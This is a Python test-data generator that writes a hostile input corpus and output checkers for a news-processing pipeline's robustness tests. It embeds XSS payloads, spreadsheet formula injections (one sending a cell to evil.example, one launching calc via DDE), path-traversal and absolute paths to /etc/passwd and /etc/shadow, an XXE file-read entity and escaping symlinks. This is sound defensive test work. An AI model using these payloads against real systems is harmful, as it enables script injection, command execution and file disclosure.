"""Write a corpus of hostile inputs for sitroom's robustness tests and fuzz bench.

    python tools/make_hostile.py OUT_DIR [--big]

``make(dir, big=False)`` writes ``dir/corpus/`` (the input folder, with a
manifest) and ``dir/outside/`` (files that sit beside the input folder and must
never be read: symlinks and manifest paths point at them). It returns a
``Hostile`` record that says, for every input document, by which path the run
must account for it (in articles.jsonl or errors.jsonl) and, where the outcome
is certain, which error code it must get.

Every text here is invented for these tests. The corpus is generated at test
time into a temporary folder and never committed: with ``big=True`` it holds a
50 MB single-line file.
"""
from __future__ import annotations

import argparse
import codecs
import json
import os
import random
import sys
from dataclasses import dataclass, field
from pathlib import Path
from typing import Optional

# A run over the corpus uses this max_file_bytes so that the long-line file
# (LONG_LINE_BYTES, or 50 MB with big=True) takes the same "too large" path.
SMALL_FILE_LIMIT = 400_000
LONG_LINE_BYTES = 600_000
BIG_LINE_BYTES = 50_000_000
# Cleaned bodies longer than this are cut in the hostile run (a file just under
# SMALL_FILE_LIMIT holds a much longer body).
SMALL_ARTICLE_CHARS = 40_000

# Written into every file that must never be read; its presence in any output is a leak.
SECRET = "SITROOM-SECRET-OUTSIDE-7f3a"

XSS = (
    "<script>alert('sitroom-xss')</script>",
    '"><img src=x onerror=alert(1)>',
    "<a href=\"javascript:alert('sitroom-js')\">click</a>",
    "<svg/onload=alert(2)>",
    "</script><script>alert(3)</script>",
    "<!--<script>alert(4)</script>-->",
)
FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
)
ZERO_WIDTH = "\u200b\u200c\u200d\u2060\ufeff"
RTL = "\u202e\u2067\u200f"


@dataclass
class Unit:
    """One input document: the paths that may account for it, and the error code when certain."""
    name: str
    keys: tuple[str, ...]
    code: Optional[str] = None        # the error it must get; None: article or any recorded error
    article: bool = False             # it must come out as an article


@dataclass
class Hostile:
    root: Path
    corpus: Path
    outside: Path
    units: list[Unit] = field(default_factory=list)
    manifest: Optional[Path] = None
    manifest_errors: dict[str, str] = field(default_factory=dict)   # "manifest:N" -> code
    big: bool = False

    def unit(self, name: str) -> Unit:
        return next(u for u in self.units if u.name == name)


# --------------------------------------------------------------------------- article texts (invented)

PLACES = ("Kharkiv", "Mosul", "Goma", "Aleppo", "Khartoum")


def news(place: str = "Kharkiv", day: str = "Monday", killed: str = "at least 4", speaker: str = "Mayor Ilse Brandt",
         extra: str = "") -> str:
    """A short invented report that the pipeline reads as one shelling with a claim and a denial."""
    return (
        f"Artillery shells struck the town of {place} on {day} morning, killing {killed} civilians and wounding "
        f"11 others, local officials said.\n\n"
        f"\"The shelling began before dawn and did not stop for two hours,\" said {speaker}.\n\n"
        f"The defence ministry denied that its forces had fired on {place} and accused rebel fighters of "
        f"staging the attack.\n\n"
        f"Aid workers said the town's hospital was treating the wounded. {extra}\n"
    )


def html_page(title: str, body_html: str, head_extra: str = "") -> str:
    return (f"<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>{title}</title>{head_extra}</head>\n"
            f"<body><article><h1>{title}</h1>\n{body_html}\n</article></body></html>\n")


def paragraphs_html(text: str) -> str:
    return "\n".join(f"<p>{p}</p>" for p in text.split("\n\n") if p.strip())


# --------------------------------------------------------------------------- the writer

class Writer:
    def __init__(self, hostile: Hostile):
        self.h = hostile
        self.manifest_lines: list[str] = []

    def shown(self, rel: str) -> str:
        """The path as the runner shows it: the input folder as given, joined with the relative name."""
        return os.path.join(str(self.h.corpus), rel)

    def file(self, rel: str, data: bytes | str, *, code: Optional[str] = None, article: bool = False,
             meta: Optional[dict] = None, name: Optional[str] = None) -> str:
        path = self.h.corpus / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
        shown = self.shown(rel)
        self.h.units.append(Unit(name or rel, (shown,), code, article))
        if meta is not None:
            self.manifest(json.dumps({"path": rel, **meta}, ensure_ascii=False))
        return shown

    def manifest(self, line: str, code: Optional[str] = None) -> None:
        self.manifest_lines.append(line)
        if code:
            self.h.manifest_errors[f"{self.h.corpus / 'manifest.jsonl'}:{len(self.manifest_lines)}"] = code

    def jsonl(self, rel: str, lines: list[tuple[str, Optional[str], bool]], newline: str = "\n",
              bom: bool = False) -> None:
        """lines: (raw line, error code or None, must be an article)."""
        path = self.h.corpus / rel
        text = newline.join(line for line, _, _ in lines) + newline
        path.write_bytes((codecs.BOM_UTF8 if bom else b"") + text.encode("utf-8", "surrogatepass"))
        shown = self.shown(rel)
        for number, (line, code, article) in enumerate(lines, 1):
            if not line.strip():
                continue
            keys = [shown, f"{shown}:{number}"]   # an error about the whole file accounts for its records
            try:
                record = json.loads(line)
            except ValueError:
                record = None
            if isinstance(record, dict) and isinstance(record.get("path"), str) and record["path"].strip():
                keys.append(record["path"])
            self.h.units.append(Unit(f"{rel}:{number}", tuple(keys), code, article))

    def write_manifest(self) -> None:
        path = self.h.corpus / "manifest.jsonl"
        path.write_bytes("\n".join(self.manifest_lines).encode("utf-8", "surrogatepass") + b"\n")
        self.h.manifest = path


def make(dir: str | os.PathLike, big: bool = False) -> Hostile:
    """Write the hostile corpus under *dir*; return what a run over ``dir/corpus`` must account for."""
    root = Path(dir)
    h = Hostile(root=root, corpus=root / "corpus", outside=root / "outside", big=big)
    h.corpus.mkdir(parents=True, exist_ok=True)
    h.outside.mkdir(parents=True, exist_ok=True)
    (h.outside / "secret.txt").write_text(news(extra=SECRET) + SECRET + "\n", encoding="utf-8")
    (h.outside / "passwd").write_text(f"root:x:0:0:{SECRET}:/root:/bin/sh\n", encoding="utf-8")
    w = Writer(h)
    _plain_articles(w)
    _binary_and_encodings(w)
    _scripts_and_rtl(w)
    _quotes_numbers_dates(w)
    _html_cases(w)
    _formula_cases(w)
    _size_cases(w, big)
    _jsonl_cases(w)
    _path_cases(w, h)
    _manifest_cases(w)
    w.write_manifest()
    return h


# --------------------------------------------------------------------------- the cases

def _plain_articles(w: Writer) -> None:
    for i, place in enumerate(PLACES[:3]):
        w.file(f"plain_{i}.txt", f"Shelling hits {place}\n\n" + news(place), article=True,
               meta={"outlet": f"Plain Wire {i}", "published": f"2031-03-0{i + 3}"})
    w.file("empty.txt", b"", code="E104")
    w.file("whitespace.txt", " \n\t\n\r\n" * 50 + ZERO_WIDTH * 10, code="E104")
    w.file("only_boilerplate.txt", "Home | News | Sport\nSubscribe to our newsletter\nAccept cookies\n")
    w.file("empty_title.txt", news("Khartoum"), meta={"title": "", "outlet": "   ", "published": ""})


def _binary_and_encodings(w: Writer) -> None:
    rng = random.Random(7)
    w.file("binary_random.txt", bytes(rng.randrange(256) for _ in range(4096)))
    w.file("binary_png.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8, code="E103")
    w.file("nul_bytes.txt", news().encode() + b"\x00" * 64 + news("Aleppo").encode(), code="E103")
    w.file("nul_late.txt", news().encode() * 90 + b"\x00\x00 after the sniff window")
    w.file("gzip.html", b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + bytes(rng.randrange(256) for _ in range(2048)))
    w.file("invalid_utf8.txt", news("Mosul").encode() + b" \xc0\xaf \xed\xa0\x80 \xff\xfe \x80\x81 \xe2\x82"
                                                          + news("Goma").encode())
    w.file("truncated_utf8.txt", ("Обстрел " * 3 + news()).encode("utf-8")[:-1] + b"\xd0")
    russian = ("Артиллерийские снаряды попали в город Харків в понедельник утром, погибли четыре мирных жителя, "
               "сообщили местные власти. «Обстрел начался до рассвета», сказал мэр.\n\n")
    w.file("cp1251.txt", (russian * 3).encode("cp1251"))
    french = "Des obus ont frappé la ville de Kharkiv lundi matin, tuant quatre civils, selon les autorités. Ça dégénère.\n\n"
    w.file("latin1.txt", (french * 3 + news()).encode("latin-1"))
    w.file("utf16_bom.txt", codecs.BOM_UTF16_LE + news("Aleppo").encode("utf-16-le"))
    w.file("utf16_be_bom.txt", codecs.BOM_UTF16_BE + news("Aleppo", day="Tuesday").encode("utf-16-be"))
    w.file("utf16_no_bom.txt", news("Aleppo", day="Friday").encode("utf-16-le"), article=True)
    w.file("utf16_be_no_bom.txt", news("Aleppo", day="Thursday").encode("utf-16-be"), article=True)
    w.file("utf32_bom.txt", news("Khartoum", day="Sunday").encode("utf-32"))
    w.file("bad_bom.txt", codecs.BOM_UTF16_LE + b"\x00\xd8" + news().encode("utf-16-le")[:-1])
    w.file("mixed_encodings.txt", news("Kharkiv").encode("utf-8") + (russian * 2).encode("cp1251")
           + french.encode("latin-1") + "Ереван — Երևան".encode("utf-8"))
    w.file("utf8_bom.html", codecs.BOM_UTF8 + html_page("Shelling in Kharkiv", paragraphs_html(news())).encode())
    w.file("control_chars.txt", news() + "".join(chr(c) for c in range(1, 32) if c not in (9, 10, 13)) * 3)


def _scripts_and_rtl(w: Writer) -> None:
    armenian = "Հրետանային արկերը հարվածել են քաղաքին երկուշաբթի առավոտյան, զոհվել է չորս խաղաղ բնակիչ։"
    arabic = "قصفت المدفعية بلدة حلب صباح الاثنين، ما أسفر عن مقتل ۲۰۰ مدنياً، وفق مسؤولين محليين."
    hebrew = "פגזי ארטילריה פגעו בעיירה ביום שני בבוקר, ארבעה אזרחים נהרגו."
    mixed = (f"{RTL}Officials{ZERO_WIDTH} in Var{ZERO_WIDTH[0]}nel said ۲۰۰ people were killed. "
             f"Combining: e\u0301 a\u0308 o\u0303\u0304\u0305\u0306\u0307 z\u035c\u0361. Emoji: \U0001F4A3\U0001F525 "
             f"and astral \U00010400\U0001D11E. Zalgo: " + "Z" + "\u0336\u0337\u0338" * 200 + ".")
    w.file("armenian.txt", (armenian + "\n\n") * 4 + news(), meta={"outlet": "Ազատություն", "title": armenian[:40]})
    w.file("arabic_rtl.txt", (arabic + "\n\n") * 4 + news(), meta={"outlet": "الأخبار", "language": "ar"})
    w.file("hebrew.txt", (hebrew + "\n\n") * 3 + news("Aleppo"))
    w.file("zero_width.txt", news().replace(" ", " " + ZERO_WIDTH[0]).replace("e", "e" + ZERO_WIDTH[2]),
           meta={"outlet": f"Zero{ZERO_WIDTH}Width", "title": f"{RTL}Title{ZERO_WIDTH}"})
    w.file("mixed_scripts.txt", mixed + "\n\n" + news("Goma", speaker=f"Colonel {RTL}Arvo{ZERO_WIDTH} Pell"))
    w.file("unicode lines.txt", news().replace("\n\n", "\u2028\u2029\x85\x0b\x0c"))


def _quotes_numbers_dates(w: Writer) -> None:
    unbalanced = ('"The shelling began before dawn, said the mayor. "It did not stop. ' * 5
                  + "\u201cCurly open never closed. \u201d stray close. \u00abGuillemet open \u2039single "
                  + "\u201eLow open \u201c and ''two single'' and `backtick' quote.\n\n")
    w.file("unbalanced_quotes.txt", unbalanced + news())
    never_closes = news() + "\n\nThe commander said: \"" + ("We will hold every street and every house. " * 400)
    w.file("quote_never_closes.txt", never_closes)
    only_quotes = "\"" * 3000 + "\n\n" + "\u201c\u201d" * 2000 + "\n\n" + "'" * 3000 + "\n\n" + news()
    w.file("only_quotes.txt", only_quotes)
    numbers = (
        "Officials said 1e308 people were killed in Kharkiv on Monday. "
        "Another report said ۲۰۰ civilians were killed and ٣٤ wounded. "
        "Rebels claimed 10,000,000,000 soldiers were killed in the fighting. "
        "A statement said 99999999999999999999999999999 people died and -5 were wounded. "
        "Some 1e-308, NaN, inf, infinity and 0x1F people were injured. "
        "At least 4,,,,4 and 1.2.3.4 and 1,00,000 and ½ and ⅷ and ⅩⅡ people died. "
        "Between 5 and 3 people were killed, and 0 were wounded.\n\n"
    )
    w.file("numbers.txt", numbers + news(killed="10,000,000,000"))
    dates = (
        "The attack happened on 31 February 2031 and again on February 30. "
        "Officials said the shelling on 2031-02-31 killed 4 people; another strike on 00/00/0000 and 32/13/2031 "
        "wounded 3. The ceasefire of 9999-12-31 and the year 0 and 1 January 10000 were cited. "
        "Fighting resumed last Monday, next Friday, yesterday and the day before yesterday. "
        "On 29 February 2031 shells hit Kharkiv.\n\n"
    )
    w.file("dates.txt", dates + news(day="31 February"), meta={"published": "2031-02-31"})
    w.file("dates_bad_published.txt", news(day="yesterday"), meta={"published": "0000-00-00"})


def _html_cases(w: Writer) -> None:
    deep = "<div>" * 5000 + paragraphs_html(news()) + "</div>" * 5000
    w.file("deep_nesting.html", html_page("Deeply nested", deep))
    deep_unclosed = "<span><b><i>" * 3000 + paragraphs_html(news("Aleppo"))
    w.file("deep_unclosed.html", html_page("Deeply unclosed", deep_unclosed))
    malformed = ("<html><body<p<p<p>Shells hit<p>Kharkiv</b></i></table></td><tr>"
                 "<p>" + news() + "<p>&#0; &#xD800; &#x110000; &bogus; &amp &lt<<>>"
                 "<![CDATA[ raw ]]> <!-- comment --!> <? pi ?> </body></html></html>")
    w.file("malformed.html", malformed)
    xss_body = paragraphs_html(news(extra=XSS[1] + " " + XSS[3])) + "".join(
        f"<p>Reported {x} by officials in Kharkiv.</p>" for x in XSS)
    xss_page = html_page("Shelling " + XSS[0], xss_body,
                         head_extra="<script>alert('sitroom-head')</script><meta http-equiv=refresh content=0;url=javascript:alert(1)>")
    xss_page = xss_page.replace("<article>", "<article onmouseover=\"alert(5)\"><a href=\"javascript:alert(6)\">x</a>"
                                             "<img src=x onerror=alert(7)><iframe src=javascript:alert(8)></iframe>")
    w.file("xss.html", xss_page, meta={"title": XSS[0] + " title", "outlet": XSS[1]})
    w.file("xss_text.txt", "Shelling in Kharkiv " + XSS[0] + "\n\n" + news(extra=" ".join(XSS)),
           meta={"outlet": "Hostile " + XSS[2], "url": "javascript:alert('url')"})
    entities = ("<?xml version=\"1.0\"?>\n<!DOCTYPE html [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;"
                "&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY x SYSTEM "
                f"\"file://{w.h.outside / 'secret.txt'}\">]>\n"
                "<html><body><p>&c; &x;</p>" + paragraphs_html(news()) + "</body></html>")
    w.file("entities.xhtml", entities)
    # Degenerate trees that made trafilatura's date search fail an lxml assertion.
    w.file("math_meta.html", "<math><meta name='author' content='" + "A" * 300 + "'>" + paragraphs_html(news()))
    w.file("bad_url.txt", news("Goma"), meta={"url": "http://[::1", "outlet": ""})
    w.file("many_attributes.html", "<html><body><p " + " ".join(f"a{i}=x" for i in range(1500)) + ">x</p>"
           + paragraphs_html(news("Mosul")) + "</body></html>")
    w.file("html_empty.html", "<html><body></body></html>")
    w.file("html_only_script.html", "<html><head><script>var a = 1;</script></head><body><script>"
                                    + "x=1;" * 1000 + "</script></body></html>")
    w.file("not_html.htm", news() + "<p>stray tag</p>")
    w.file("html_in_txt.txt", "<!doctype html><html><body>" + paragraphs_html(news("Khartoum")) + "</body></html>")


def _formula_cases(w: Writer) -> None:
    for i, formula in enumerate(FORMULAS):
        text = (f"{formula} Artillery shells struck the town of Kharkiv on Monday, killing 3 people, officials said.\n\n"
                + news(speaker=f"{formula} Colonel Arvo Pell"))
        w.file(f"formula_{i}.txt", text,
               meta={"outlet": formula, "title": formula, "published": "2031-03-03"})


def _size_cases(w: Writer, big: bool) -> None:
    size = BIG_LINE_BYTES if big else LONG_LINE_BYTES
    unit = b"shells fell on the town of Kharkiv and "
    path = w.h.corpus / "long_line.txt"
    with open(path, "wb") as fh:   # written in chunks: 50 MB never sits in memory twice
        written = 0
        while written < size:
            chunk = unit * 4096
            fh.write(chunk)
            written += len(chunk)
    w.h.units.append(Unit("long_line.txt", (w.shown("long_line.txt"),), "E105"))
    # Under the file limit but far over max_article_chars: the body is cut, the article kept.
    long_prose = (news() * 60).replace("\n\n", " ")
    w.file("long_body.txt", long_prose[: SMALL_FILE_LIMIT - 1000], article=True)
    w.file("regex_stress.txt", news() + "\n\n" + " ".join([
        "a" * 20000, " " * 20000, "1," * 8000, "(" * 5000, "." * 10000, "-" * 5000, "\"'" * 4000,
        "said " * 3000, "killed " * 3000, "9" * 5000]) + "\n\n" + news("Aleppo"))


def _jsonl_cases(w: Writer) -> None:
    good = lambda **kw: json.dumps({"text": news(), **kw}, ensure_ascii=False)
    w.jsonl("feed.jsonl", [
        (good(id="rec-1", outlet="Feed Wire", published="2031-03-05", title="Good record"), None, True),
        ("[1, 2, 3]", "E107", False),
        ("\"just a string\"", "E107", False),
        ("null", "E107", False),
        ("42", "E107", False),
        ("{\"text\": \"broken", "E107", False),
        ("{\"text\": 12345, \"title\": \"number text\"}", "E107", False),
        ("{\"text\": {\"nested\": true}}", "E107", False),
        ("{\"html\": [\"list\"], \"text\": \"\"}", "E107", False),
        ("", None, False),
        ("   ", None, False),
        (good(id="rec-1", outlet="Duplicate id"), "E109", False),
        (good(id=None, outlet=["not", "a", "string"], published=20310305, title={"x": 1}), None, False),
        (good(path="../../etc/passwd", outlet="Traversal record"), None, False),
        (good(path="/etc/shadow", id="../../../tmp/sitroom-id-escape"), None, False),
        (json.dumps({"html": html_page("Record " + XSS[0], paragraphs_html(news(extra=XSS[1]))),
                     "outlet": FORMULAS[0], "title": FORMULAS[1], "published": "31 February 2031"}), None, False),
        (good(outlet="Surrogate \ud800 outlet", title="lone \udfff surrogate").replace("Artillery", "Art\\ud800illery"),
         None, False),
        (json.dumps({"text": news().replace("Artillery", "Art\ud800illery"), "outlet": "esc \udc00 aped",
                     "title": "\ud83d half emoji"}), None, False),
        (good(text_extra="x", id=10 ** 30, published="2031-13-45"), None, False),
        (json.dumps({"text": news() + "\u2028line separator\u2029 and \x85 next-line inside the text"},
                    ensure_ascii=False), None, True),
        (json.dumps({"text": news(), "id": True}), None, False),
        (json.dumps({"text": news("Mosul"), "url": "http://[::1/2031/02/31/x", "id": "bad-url"}), None, True),
        (json.dumps({"html": "<math><meta name='author' content='x'>" + paragraphs_html(news("Goma")),
                     "url": "//[", "id": "math-meta"}), None, False),
        ("{\"text\": \"" + "\\\"" * 2000 + "\"}", None, False),
        (json.dumps({"text": news(), "outlet": "x" * 100_000, "title": "y" * 100_000}), None, False),
    ])
    w.jsonl("crlf_bom.jsonl", [(good(id="crlf-1", outlet="CRLF Wire"), None, True),
                               ("{bad json}", "E107", False)], newline="\r\n", bom=True)
    # A feed over max_file_bytes: each record is judged on its own, the oversized one is E105.
    big_record = json.dumps({"text": news() + " " + "more words " * (SMALL_FILE_LIMIT // 10), "id": "huge"})
    w.jsonl("big_feed.jsonl", [(good(id=f"big-feed-{i}", outlet="Big Feed"), None, True) for i in range(3)]
            + [(big_record, "E105", False), (good(id="big-feed-last", outlet="Big Feed"), None, True)])
    w.file("jsonl_binary.jsonl", b"\x00\x01\x02" * 100, code="E103", name="jsonl_binary.jsonl")


def _path_cases(w: Writer, h: Hostile) -> None:
    text = news("Goma")
    w.file("name with spaces.txt", text + "\n\nSpaces in the name.", article=True)
    w.file("unicode-имя-名前-اسم.txt", text + "\n\nUnicode name.", article=True)
    w.file("newline\nin name.txt", text + "\n\nNewline in the name.")
    w.file("-dash-first.txt", text + "\n\nDash first.")
    w.file("=formula-name.txt", text + "\n\nFormula file name.", meta={"outlet": "Formula-named file"})
    w.file(".hidden.txt", SECRET + " hidden files are skipped")
    h.units.pop()  # hidden files are not inputs
    w.file("sub/dir/nested.txt", text + "\n\nNested folder.", article=True)
    w.file("dup_a.txt", news("Khartoum", day="Saturday"), article=True)
    w.file("dup_b.txt", news("Khartoum", day="Saturday"), code="E109")
    # A file name that is not valid UTF-8: the path must still be shown and stored.
    raw_name = os.fsencode(str(h.corpus)) + b"/bad-\xff\xfe-name.txt"
    try:
        with open(raw_name, "wb") as fh:
            fh.write((text + "\n\nInvalid bytes in the name.").encode())
        shown = os.path.join(str(h.corpus), os.fsdecode(b"bad-\xff\xfe-name.txt"))
        h.units.append(Unit("bad-bytes-name", (shown, _displayable(shown))))
    except OSError:   # a file system that refuses such names
        pass
    # Links that lead out of the folder, one dangling, one inside.
    _symlink(h.outside / "secret.txt", h.corpus / "link_out.txt", w, "E108")
    _symlink(h.outside, h.corpus / "link_dir_out", None, None)
    _symlink(Path("/nonexistent/sitroom-missing.txt"), h.corpus / "dangling.txt", w, None)
    # A link inside the folder reads the same bytes as its target: one of the two is kept, the other is E109.
    w.file("link_target.txt", news("Khartoum", day="Thursday"))
    _symlink(h.corpus / "link_target.txt", h.corpus / "link_in.txt", w, None)
    _symlink(Path("../outside/secret.txt"), h.corpus / "relative_link_out.txt", w, "E108")
    if hasattr(os, "mkfifo"):
        os.mkfifo(h.corpus / "fifo.txt")
        h.units.append(Unit("fifo.txt", (w.shown("fifo.txt"),), "E101"))
    (h.corpus / "a_folder.txt").mkdir()
    (h.corpus / "unreadable.txt").write_text(text)
    os.chmod(h.corpus / "unreadable.txt", 0)   # root can still read it: either outcome is accounted for
    h.units.append(Unit("unreadable.txt", (w.shown("unreadable.txt"),)))
    (h.corpus / "ignored.bin").write_bytes(b"\x00" * 10)  # not a known suffix: not an input


def _displayable(path: str) -> str:
    return path.encode("utf-8", "surrogateescape").decode("utf-8", "replace")


def _symlink(target: Path, link: Path, w: Optional[Writer], code: Optional[str]) -> None:
    try:
        os.symlink(target, link)
    except OSError:
        return
    if w is not None:
        rel = link.relative_to(w.h.corpus).as_posix()
        w.h.units.append(Unit(rel, (w.shown(rel),), code))


def _manifest_cases(w: Writer) -> None:
    w.manifest(json.dumps({"path": "../../etc/passwd", "outlet": "Traversal"}), "E108")
    w.manifest(json.dumps({"path": "../outside/secret.txt", "outlet": "Traversal"}), "E108")
    w.manifest(json.dumps({"path": "/etc/passwd", "outlet": "Absolute"}), "E108")
    w.manifest(json.dumps({"path": str(w.h.outside / "secret.txt"), "outlet": "Absolute"}), "E108")
    w.manifest(json.dumps({"path": "C:\\Windows\\win.ini", "outlet": "Drive"}), "E108")
    w.manifest(json.dumps({"path": "sub/../../outside/secret.txt"}), "E108")
    w.manifest(json.dumps({"path": "link_out.txt", "outlet": "Link out"}), "E108")
    w.manifest("{\"path\": \"plain_0.txt\", \"outlet\": ", "E106")
    w.manifest("[\"plain_0.txt\"]", "E106")
    w.manifest(json.dumps({"outlet": "No path"}), "E106")
    w.manifest(json.dumps({"path": "   "}), "E106")
    w.manifest(json.dumps({"path": 42}), "E106")
    w.manifest(json.dumps({"path": "missing.txt"}), "E101")
    w.manifest(json.dumps({"path": "plain_1.txt", "outlet": "Second entry for the same file"}))
    w.manifest(json.dumps({"path": "plain_2.txt", "outlet": "Lone \ud800 surrogate", "title": "\udc80"}))
    w.manifest(json.dumps({"path": "dates.txt", "published": ["not", "a", "date"], "outlet": 7}))


# --------------------------------------------------------------------------- checks shared by tests and the fuzz bench

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Strings only hostile input holds; none may reach a live script in an output page.
SCRIPT_MARKERS = ("sitroom-xss", "sitroom-head", "sitroom-js", "alert(")
RISKY_TAGS = {"iframe", "object", "embed", "base", "frame", "frameset"}


def formula_cells(text: str) -> list[str]:
    """CSV cells that a spreadsheet would run as a formula (plain negative numbers are fine)."""
    import csv
    import io
    bad = []
    for row in csv.reader(io.StringIO(text)):
        bad += [cell for cell in row if cell.startswith(FORMULA_STARTS) and not _is_number(cell)]
    return bad


def _is_number(cell: str) -> bool:
    if cell.startswith(("\t", "\r")):
        return False
    try:
        float(cell)
    except ValueError:
        return False
    return True


def inert_problems(html: str, own_script_prefix: str = "/static/") -> list[str]:
    """What in *html* could run: event-handler attributes, javascript: URLs, refresh, frames, input in scripts."""
    from html.parser import HTMLParser

    problems: list[str] = []

    class Scan(HTMLParser):
        url_attrs = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "content"}

        def __init__(self):
            super().__init__(convert_charrefs=True)
            self.script: Optional[dict] = None
            self.text: list[str] = []

        def handle_starttag(self, tag, attrs):
            if tag in RISKY_TAGS:
                problems.append(f"<{tag}> element")
            for name, value in attrs:
                if name.startswith("on"):
                    problems.append(f"<{tag} {name}=...> event handler")
                squeezed = "".join(ch for ch in (value or "") if ch > " ").lower()
                if name in self.url_attrs and "javascript:" in squeezed:
                    problems.append(f"<{tag} {name}=javascript:...>")
            if tag == "meta" and any(n == "http-equiv" and (v or "").lower() == "refresh" for n, v in attrs):
                problems.append("<meta http-equiv=refresh>")
            if tag == "script":
                self.script, self.text = dict(attrs), []

        def handle_data(self, data):
            if self.script is not None:
                self.text.append(data)

        def handle_endtag(self, tag):
            if tag != "script" or self.script is None:
                return
            attrs, text, self.script = self.script, "".join(self.text), None
            if attrs.get("type") == "application/json":
                try:   # a break-out from a data block leaves it unparsable
                    json.loads(text)
                except ValueError:
                    problems.append("a JSON data block that does not parse")
            elif not (attrs.get("src") or own_script_prefix).startswith(own_script_prefix):
                problems.append(f"foreign script {attrs.get('src')!r}")
            else:
                problems.extend(f"input text {m!r} inside a live script" for m in SCRIPT_MARKERS if m in text)

    scan = Scan()
    scan.feed(html)
    scan.close()
    return problems


# --------------------------------------------------------------------------- command line

def main(argv: Optional[list[str]] = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("out", help="folder to write (corpus/ and outside/ inside it)")
    parser.add_argument("--big", action="store_true", help="include the 50 MB single-line file")
    args = parser.parse_args(argv)
    h = make(args.out, big=args.big)
    print(f"{len(h.units)} input documents in {h.corpus} ({len(h.manifest_errors)} bad manifest lines)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
